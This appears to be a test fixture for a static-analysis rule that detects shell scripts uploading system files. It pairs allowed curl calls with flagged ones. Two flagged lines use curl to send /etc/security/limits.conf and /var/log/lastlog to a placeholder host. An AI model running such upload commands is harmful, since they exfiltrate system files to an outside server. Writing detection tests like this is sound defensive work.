#!/bin/bash
# ok: system-file-upload
curl --data-binary @report.json https://x.example/submit
# ok: system-file-upload
curl -o /etc/app/config.json https://x.example/config
body=/etc/security/limits.conf
# ruleid: system-file-upload
curl -s --data-binary @"$body" -H 'Content-Type: application/octet-stream' https://x.example/submit
# ruleid: system-file-upload
curl -F "file=@/var/log/lastlog" https://x.example/submit
